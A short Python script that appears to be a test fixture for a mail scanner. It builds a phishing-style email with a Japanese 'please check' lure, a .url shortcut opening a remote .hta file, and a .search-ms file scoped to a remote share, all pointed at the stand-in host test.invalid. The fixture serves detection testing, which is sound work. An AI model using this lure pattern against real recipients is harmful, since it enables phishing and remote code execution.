# An Internet shortcut that opens a file from a server, and a saved search there.
from parts import *

message = mail(join([text_part("ご確認ください。"),
                     file_part("資料.url", b"[InternetShortcut]\r\nURL=file://test.invalid/share/TEST-INERT.hta\r\n"),
                     file_part("a.search-ms", b'<?xml version="1.0"?>\r\n<persistedQuery version="1.0"><query><scope>'
                                              b'<include path="\\\\test.invalid\\share"/></scope></query></persistedQuery>')]))
